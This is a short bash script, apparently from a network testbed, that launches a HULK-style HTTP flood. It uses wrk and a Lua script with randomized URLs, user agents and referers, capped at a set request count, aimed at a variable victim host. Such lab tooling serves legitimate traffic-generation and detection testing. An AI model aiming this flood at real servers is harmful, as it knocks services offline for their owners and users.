#!/usr/bin/env bash
# HULK-style HTTP flood (wrk + httpflood.lua): unique URLs, random agents and referers, no keep-alive,
# at most TB_COUNT requests.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
tb_run "$TB_NS" env TB_WRK_THREADS=2 wrk -t 2 -c 64 -d "${TB_SECONDS}s" --timeout 5s -s "$TB_LIB/httpflood.lua" \
  "http://$TB_VICTIM/" -- hulk "$TB_SEED" "$TB_COUNT" > "$TB_STATE/hulk.log" 2>&1
